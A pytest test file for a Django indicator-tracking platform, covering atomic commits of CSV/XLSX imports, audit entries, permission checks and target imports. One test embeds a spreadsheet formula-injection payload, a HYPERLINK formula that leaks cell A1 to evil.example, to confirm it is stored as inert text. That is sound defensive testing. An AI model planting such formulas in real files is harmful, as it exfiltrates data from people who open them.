"""Step 2 of an import: all or nothing, checked again at commit, audited, statuses computed."""

from __future__ import annotations

from decimal import Decimal

import pytest
from django.db import connection

from goldenthread.platform.core.errors import Conflict, PermissionDenied
from goldenthread.platform.indicators.models import AuditEntry, IndicatorValue, Target
from goldenthread.platform.indicators.services.targets import target_set
from goldenthread.platform.indicators.services.values import value_enter
from goldenthread.platform.indicators.services.workflow import value_approve, value_submit

from .conftest import VALUE_HEADER, problems_of, value_rows, xlsx_bytes
from .steps import commit_and_write


def test_commit_saves_every_row_as_a_draft_with_its_status_and_audit(
    in_alpha, people, make_indicator, values_csv, start_import
):
    # Given a PI with a target of 50 for Q1
    pi = make_indicator("PI 1")
    target_set(actor=people.officer, indicator=pi, period_code="2024/25 Q1", value="50")
    job = start_import(
        people.provider,
        values_csv(
            {"indicator code": "PI 1", "period": "2024/25 Q1", "value": "40"},
            {"indicator code": "PI 1", "period": "2024/25 Q2", "state": "not collected"},
        ),
        name="q1.csv",
    )
    # When the provider commits the preview
    job = commit_and_write(job=job, actor=people.provider)
    # Then both values are saved as drafts, with the status the domain gives them
    assert job.status == "committed"
    assert job.counts["new"] == 2
    rows = {row.period_code: row for row in IndicatorValue.objects.filter(indicator=pi)}
    q1, q2 = rows["2024/25 Q1"], rows["2024/25 Q2"]
    assert (q1.value, q1.workflow_status, q1.status) == (Decimal("40"), "draft", "off_target")
    assert q1.status_target == Decimal("50") and q1.status_warning_threshold == Decimal("47.5")
    assert q1.entered_by == people.provider and q1.entered_at is not None
    assert (q2.value, q2.state, q2.status) == (None, "not_collected", "not_collected")
    # And each is in the audit trail, saying where it came from
    entries = AuditEntry.objects.filter(action="value_entered", indicator=pi).order_by("id")
    assert [(e.object_id, e.period_code, e.reason) for e in entries] == [
        (str(q1.pk), "2024/25 Q1", "Imported from q1.csv, row 2"),
        (str(q2.pk), "2024/25 Q2", "Imported from q1.csv, row 3"),
    ]
    assert entries[0].new["value"] == "40" and entries[0].actor == people.provider


def test_commit_changes_a_draft_and_audits_old_and_new(
    in_alpha, people, make_indicator, values_csv, start_import
):
    pi = make_indicator("PI 1")
    row = value_enter(actor=people.provider, indicator=pi, period_code="2024/25 Q1", value="40")
    job = start_import(
        people.officer,
        values_csv({"indicator code": "PI 1", "period": "2024/25 Q1", "value": "45"}),
    )
    commit_and_write(job=job, actor=people.officer)
    row.refresh_from_db()
    assert (row.value, row.entered_by) == (Decimal("45"), people.officer)
    entry = AuditEntry.objects.get(action="value_changed", object_id=str(row.pk))
    assert (entry.old, entry.new) == ({"value": "40"}, {"value": "45"})


def test_a_hostile_note_is_stored_as_the_text_that_was_typed(
    in_alpha, people, make_indicator, start_import
):
    # Given an XLSX whose note cell is a real formula
    make_indicator("PI 1", valid_maximum=Decimal("100"), out_of_range_policy="confirm")
    hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
    content = xlsx_bytes(
        VALUE_HEADER,
        value_rows(
            {"indicator code": "PI 1", "period": "2024/25 Q1", "value": 120, "note": hostile}
        ),
    )
    job = start_import(people.provider, content, name="values.xlsx")
    # When it is imported
    job = commit_and_write(job=job, actor=people.provider)
    # Then the formula is kept as plain text, never evaluated
    row = IndicatorValue.objects.get()
    assert row.out_of_range_confirmed is True
    assert row.out_of_range_note == hostile


def test_commit_checks_again_and_writes_nothing_when_a_row_became_locked(
    in_alpha, people, make_indicator, values_csv, start_import
):
    # Given a preview with no problems
    pi = make_indicator("PI 1", verifier=people.verifier)
    existing = value_enter(actor=people.officer, indicator=pi, period_code="2024/25 Q2", value=1)
    job = start_import(
        people.provider,
        values_csv(
            {"indicator code": "PI 1", "period": "2024/25 Q1", "value": "10"},
            {"indicator code": "PI 1", "period": "2024/25 Q2", "value": "20"},
        ),
    )
    assert job.can_commit
    # When the Q2 value is submitted and approved before the commit
    value_submit(actor=people.officer, value=existing)
    value_approve(actor=people.verifier, value=existing)
    job = commit_and_write(job=job, actor=people.provider)
    # Then nothing is written, and the job shows the new preview with the new problem
    assert job.status == "previewed"
    assert job.message.startswith("Nothing was imported: the rows have problems now")
    assert [(row, column) for row, column, _ in problems_of(job)] == [(3, "period")]
    assert not IndicatorValue.objects.filter(period_code="2024/25 Q1").exists()
    existing.refresh_from_db()
    assert existing.value == Decimal("1")


def test_commit_refuses_when_the_data_changed_from_what_was_previewed(
    in_alpha, people, make_indicator, values_csv, start_import
):
    pi = make_indicator("PI 1")
    job = start_import(
        people.provider,
        values_csv({"indicator code": "PI 1", "period": "2024/25 Q1", "value": "10"}),
    )
    # Someone else enters a draft for the same period after the preview said "new"
    value_enter(actor=people.officer, indicator=pi, period_code="2024/25 Q1", value="9")
    job = commit_and_write(job=job, actor=people.provider)
    assert job.status == "previewed"
    assert "the data changed since the preview" in job.message
    assert [(c["kind"], c["old"], c["new"]) for c in job.changes] == [("changed", "9", "10")]
    assert IndicatorValue.objects.get().value == Decimal("9")
    # And committing the new preview then works
    job = commit_and_write(job=job, actor=people.provider)
    assert job.status == "committed"
    assert IndicatorValue.objects.get().value == Decimal("10")


def test_a_failure_part_way_through_the_commit_leaves_nothing_written(
    in_alpha, people, make_indicator, values_csv, start_import
):
    # Given 6,000 good rows (60 monthly PIs x 100 months)
    pis = [make_indicator(f"M{n:02d}", frequency="monthly", unit_kind="number") for n in range(60)]
    months = [f"{2015 + m // 12}-{m % 12 + 1:02d}" for m in range(100)]
    rows = [
        {"indicator code": pi.code, "period": month, "value": str(index + 1)}
        for index, (month, pi) in enumerate((month, pi) for month in months for pi in pis)
    ]
    job = start_import(people.officer, values_csv(*rows))
    assert job.can_commit and job.counts["new"] == 6000
    audit_before = AuditEntry.objects.count()
    # And a database rule that the 5,000th row breaks, which the preview cannot know about
    with connection.cursor() as cursor:
        cursor.execute(
            "ALTER TABLE indicators_indicatorvalue ADD CONSTRAINT test_refuse_5000 "
            "CHECK (value <> 5000)"
        )
    # When the import is committed
    job = commit_and_write(job=job, actor=people.officer)
    # Then it fails, and not one value or audit row was written
    assert job.status == "failed"
    assert "the database refused the import" in job.message
    assert "test_refuse_5000" in job.message
    assert IndicatorValue.objects.count() == 0
    assert AuditEntry.objects.count() == audit_before


def test_only_the_uploader_may_commit_and_only_once(
    in_alpha, people, make_indicator, values_csv, start_import
):
    make_indicator("PI 1")
    job = start_import(
        people.provider,
        values_csv({"indicator code": "PI 1", "period": "2024/25 Q1", "value": "10"}),
    )
    with pytest.raises(PermissionDenied):
        commit_and_write(job=job, actor=people.officer)
    assert IndicatorValue.objects.count() == 0
    commit_and_write(job=job, actor=people.provider)
    with pytest.raises(Conflict, match="already been imported"):
        commit_and_write(job=job, actor=people.provider)
    assert IndicatorValue.objects.count() == 1


def test_a_file_with_problems_cannot_be_committed(
    in_alpha, people, make_indicator, values_csv, start_import
):
    make_indicator("PI 1")
    job = start_import(
        people.provider,
        values_csv(
            {"indicator code": "PI 1", "period": "2024/25 Q1", "value": "10"},
            {"indicator code": "PI 1", "period": "2024/25 Q2", "value": "ten"},
        ),
    )
    with pytest.raises(Conflict, match="has problems"):
        commit_and_write(job=job, actor=people.provider)
    assert IndicatorValue.objects.count() == 0


def test_importing_targets_sets_them_and_reassesses_open_values(
    in_alpha, people, make_indicator, targets_csv, start_import
):
    pi = make_indicator("PI 1")
    draft = value_enter(actor=people.provider, indicator=pi, period_code="2024/25 Q1", value="40")
    assert draft.status == "data_only"
    job = start_import(
        people.officer,
        targets_csv(
            {"indicator code": "PI 1", "period": "2024/25 Q1", "target": "50", "note": "Stretch"},
            {"indicator code": "PI 1", "period": "2024/25", "target": "55"},
        ),
        kind="targets",
        name="targets.csv",
    )
    job = commit_and_write(job=job, actor=people.officer)
    assert job.status == "committed"
    assert {(t.period_code, t.value, t.note) for t in Target.objects.filter(indicator=pi)} == {
        ("2024/25 Q1", Decimal("50"), "Stretch"),
        ("2024/25", Decimal("55"), ""),
    }
    assert AuditEntry.objects.filter(action="target_set", indicator=pi).count() == 2
    draft.refresh_from_db()
    assert (draft.status, draft.status_target) == ("off_target", Decimal("50"))


def test_a_data_provider_cannot_import_targets(in_alpha, people, targets_csv, start_import):
    with pytest.raises(PermissionDenied, match="Only performance officers"):
        start_import(
            people.provider,
            targets_csv({"indicator code": "PI 1", "period": "2024/25", "target": "1"}),
            kind="targets",
        )
    assert Target.objects.count() == 0
